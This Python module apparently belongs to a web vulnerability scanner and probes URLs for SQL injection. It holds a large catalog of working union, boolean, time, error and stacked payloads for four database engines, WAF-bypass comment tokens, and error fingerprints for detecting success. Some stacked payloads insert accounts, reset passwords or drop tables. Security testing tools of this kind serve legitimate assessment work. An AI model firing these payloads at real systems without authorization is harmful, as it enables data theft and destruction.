import re
from typing import Any, Dict, List, Optional

from bughunt.checkers.base import BaseChecker
from bughunt.core.catalog import ALL, AUTO, PayloadCatalog
from bughunt.core.models import (
    BaselineData, CatalogEntry, Finding, Intensity, PayloadOutcome, Severity,
)

COMMON_SQLI_PARAMS = [
    "id", "user_id", "product_id", "category_id", "page_id", "article_id",
    "news_id", "item_id", "post_id", "search", "query", "q", "keyword",
    "term", "name", "username", "email", "password", "login", "user",
    "admin", "category", "type", "sort", "order", "limit", "offset",
]

SQLI_PAYLOADS = {
    "union": {
        "mysql": [
            "' UNION SELECT 1,2,3,4,5--",
            "' UNION SELECT NULL,NULL,NULL,NULL,NULL--",
            "' UNION SELECT user(),database(),version(),@@version,5--",
            "' UNION SELECT 1,group_concat(table_name),3,4,5 FROM information_schema.tables--",
            "' UNION SELECT 1,group_concat(column_name),3,4,5 FROM information_schema.columns--",
            "1 UNION SELECT 1,2,3,4,5--",
            "-1' UNION SELECT 1,2,3,4,5--",
        ],
        "postgresql": [
            "' UNION SELECT 1,2,3,4,5--",
            "' UNION SELECT NULL,NULL,NULL,NULL,NULL--",
            "' UNION SELECT user,current_database(),version(),current_user,5--",
            "' UNION SELECT 1,string_agg(table_name,','),3,4,5 FROM information_schema.tables--",
            "' UNION SELECT 1,string_agg(column_name,','),3,4,5 FROM information_schema.columns--",
        ],
        "mssql": [
            "' UNION SELECT 1,2,3,4,5--",
            "' UNION SELECT NULL,NULL,NULL,NULL,NULL--",
            "' UNION SELECT user_name(),db_name(),@@version,system_user,5--",
            "' UNION SELECT 1,name,3,4,5 FROM sys.tables--",
            "' UNION SELECT 1,name,3,4,5 FROM sys.columns--",
        ],
        "oracle": [
            "' UNION SELECT 1,2,3,4,5 FROM dual--",
            "' UNION SELECT NULL,NULL,NULL,NULL,NULL FROM dual--",
            "' UNION SELECT user,sys_context('userenv','db_name'),banner,user,5 FROM v$version--",
            "' UNION SELECT 1,table_name,3,4,5 FROM all_tables--",
            "' UNION SELECT 1,column_name,3,4,5 FROM all_tab_columns--",
        ],
    },
    "boolean": {
        "mysql": [
            "' AND 1=1--",
            "' AND 1=2--",
            "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
            "' AND (SELECT LENGTH(database()))>0--",
            "' AND (SELECT SUBSTRING(user(),1,1))='r'--",
            "' AND ASCII(SUBSTRING(user(),1,1))>64--",
        ],
        "postgresql": [
            "' AND 1=1--",
            "' AND 1=2--",
            "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
            "' AND (SELECT LENGTH(current_database()))>0--",
            "' AND (SELECT SUBSTRING(user,1,1))='p'--",
        ],
        "mssql": [
            "' AND 1=1--",
            "' AND 1=2--",
            "' AND (SELECT COUNT(*) FROM sys.tables)>0--",
            "' AND (SELECT LEN(db_name()))>0--",
            "' AND (SELECT SUBSTRING(user_name(),1,1))='d'--",
        ],
        "oracle": [
            "' AND 1=1--",
            "' AND 1=2--",
            "' AND (SELECT COUNT(*) FROM all_tables)>0--",
            "' AND (SELECT LENGTH(user) FROM dual)>0--",
        ],
    },
    "time": {
        "mysql": [
            "' AND SLEEP(5)--",
            "' AND (SELECT SLEEP(5))--",
            "' AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_schema=database() AND SLEEP(5))--",
            "'; WAITFOR DELAY '00:00:05'--",
        ],
        "postgresql": [
            "' AND pg_sleep(5)--",
            "' AND (SELECT pg_sleep(5))--",
            "' AND (SELECT COUNT(*) FROM pg_tables WHERE pg_sleep(5) IS NOT NULL)--",
        ],
        "mssql": [
            "'; WAITFOR DELAY '00:00:05'--",
            "' AND (SELECT COUNT(*) FROM sys.tables WHERE 1=1 AND (SELECT COUNT(*) FROM sys.tables WHERE 1=1 WAITFOR DELAY '00:00:05'))>0--",
        ],
        "oracle": [
            "' AND (SELECT COUNT(*) FROM all_tables WHERE ROWNUM<=1 AND (SELECT COUNT(*) FROM all_tables WHERE ROWNUM<=1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)))>0--",
        ],
    },
    "error": {
        "mysql": [
            "' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
            "' AND ExtractValue(1,CONCAT(0x7e,(SELECT version()),0x7e))--",
            "' AND UpdateXML(1,CONCAT(0x7e,(SELECT version()),0x7e),1)--",
            "' AND (SELECT * FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
        ],
        "postgresql": [
            "' AND CAST((SELECT version()) AS int)--",
            "' AND CAST((SELECT current_database()) AS int)--",
            "' AND (SELECT CAST(COUNT(*) AS text) FROM information_schema.tables)::int--",
        ],
        "mssql": [
            "' AND CONVERT(int,(SELECT @@version))--",
            "' AND CONVERT(int,(SELECT db_name()))--",
            "' AND CONVERT(int,(SELECT COUNT(*) FROM sys.tables))--",
        ],
        "oracle": [
            "' AND CAST((SELECT banner FROM v$version WHERE ROWNUM=1) AS int)--",
            "' AND CAST((SELECT user FROM dual) AS int)--",
        ],
    },
    "stacked": {
        "mysql": [
            "'; INSERT INTO users (username,password) VALUES ('hacker','password')--",
            "'; UPDATE users SET password='hacked' WHERE id=1--",
            "'; DROP TABLE IF EXISTS temp_table--",
        ],
        "postgresql": [
            "'; INSERT INTO users (username,password) VALUES ('hacker','password')--",
            "'; UPDATE users SET password='hacked' WHERE id=1--",
            "'; DROP TABLE IF EXISTS temp_table--",
        ],
        "mssql": [
            "'; INSERT INTO users (username,password) VALUES ('hacker','password')--",
            "'; UPDATE users SET password='hacked' WHERE id=1--",
            "'; DROP TABLE temp_table--",
        ],
        "oracle": [
            "'; INSERT INTO users (username,password) VALUES ('hacker','password')--",
            "'; UPDATE users SET password='hacked' WHERE id=1--",
        ],
    },
}

# WAF bypass tokens, inserted after UNION / SELECT keywords
WAF_BYPASSES = ["/**/", "/*!*/", "/*!50000*/", "#", "-- ", ";%00"]

_KEYWORD_RX = re.compile(r"(UNION|SELECT)", re.I)


def _bypass(token: str):
    def transform(payload: str) -> str:
        return _KEYWORD_RX.sub(lambda m: m.group(1).upper() + token, payload)
    return transform


CATALOG = PayloadCatalog(
    SQLI_PAYLOADS,
    transforms=[_bypass(t) for t in WAF_BYPASSES],
    transform_label="WAF Bypass",
)

# Lower-cased SQL engine error fingerprints
ERROR_INDICATORS = [
    "mysql_fetch_array",
    "ora-01756",
    "microsoft ole db provider",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "sql syntax",
    "postgresql query failed",
    "warning: pg_",
    "valid mysql result",
    "mysqlclient version",
    "syntax error",
    "ora-00933",
    "ora-00921",
]

UNION_LEAK_MARKERS = ["mysql", "version"]


class SQLi(BaseChecker):

    name = "SQL Injection"
    common_params = COMMON_SQLI_PARAMS
    caps = {Intensity.LOW: 10, Intensity.MEDIUM: 20, Intensity.HIGH: 30}

    def __init__(self, url: str, parameters: Optional[str] = None,
                 injection_type: str = ALL, database_type: str = AUTO,
                 test_method: str = "GET", intensity=Intensity.MEDIUM,
                 timeout=10, time_threshold: float = 4.0):
        super().__init__(url, parameters, intensity, timeout)
        self.injection_type = injection_type
        self.database_type = database_type
        self.test_method = test_method
        self.time_threshold = time_threshold
        # fail early on unknown technique / dialect
        CATALOG.resolve_techniques(injection_type)
        CATALOG.resolve_dialects(database_type)

    @classmethod
    def from_request(cls, data: Dict[str, Any]) -> "SQLi":
        opt = cls.option
        return cls(
            url=data.get("url"),
            parameters=data.get("parameters"),
            injection_type=opt(data, "injectionType", ALL, [ALL] + CATALOG.techniques),
            database_type=opt(data, "databaseType", AUTO, [AUTO] + CATALOG.dialects),
            test_method=str(opt(data, "testMethod", "GET", ["get", "post"])).upper(),
            intensity=opt(data, "intensity", "medium", ["low", "medium", "high"]),
            timeout=opt(data, "timeout", 10),
        )

    def get_payloads(self) -> List[CatalogEntry]:
        return CATALOG.payloads_for(self.injection_type, self.database_type, self.intensity)

    def configuration(self) -> Dict[str, Any]:
        return {
            "injectionType": self.injection_type,
            "databaseType": self.database_type,
            "testMethod": self.test_method,
            "intensity": self.intensity.value,
        }

    @staticmethod
    def severity(technique: str, label: str) -> Severity:
        # "Union" in the label wins over the technique default
        if technique == "stacked" or "Union" in label:
            return Severity.HIGH
        if technique in ("error", "time"):
            return Severity.MEDIUM
        return Severity.LOW

    def evidence(self, outcome: PayloadOutcome, baseline: BaselineData) -> Optional[str]:
        signal = outcome.response_signal
        body = (signal.body or "").lower()
        base = (baseline.body or "").lower()
        technique = outcome.request.technique

        # Error-based
        for indicator in ERROR_INDICATORS:
            if indicator in body and indicator not in base:
                return f"SQL error detected: {indicator}"

        # Union-based
        if technique == "union":
            for marker in UNION_LEAK_MARKERS:
                if marker in body and marker not in base:
                    return "Union injection successful - database information leaked"

        # Time-based
        if technique == "time":
            delta = signal.elapsed - baseline.elapsed
            if delta >= self.time_threshold:
                return f"Time-based injection detected through response delay ({delta:.1f}s)"

        if signal.status_code >= 500 and baseline.status_code < 500:
            return f"Server error (HTTP {signal.status_code}) triggered by payload"

        return None

    def classify(self, outcome: PayloadOutcome,
                 baseline: Optional[BaselineData] = None) -> Optional[Finding]:
        baseline = baseline or BaselineData()
        evidence = self.evidence(outcome, baseline)
        if evidence is None:
            return None

        req = outcome.request
        return self.finding(
            outcome,
            severity=self.severity(req.technique, req.label),
            evidence=evidence,
            discriminator=req.technique,
            injection_type=req.technique,
            database_type=req.dialect,
            status_code=outcome.response_signal.status_code,
        )
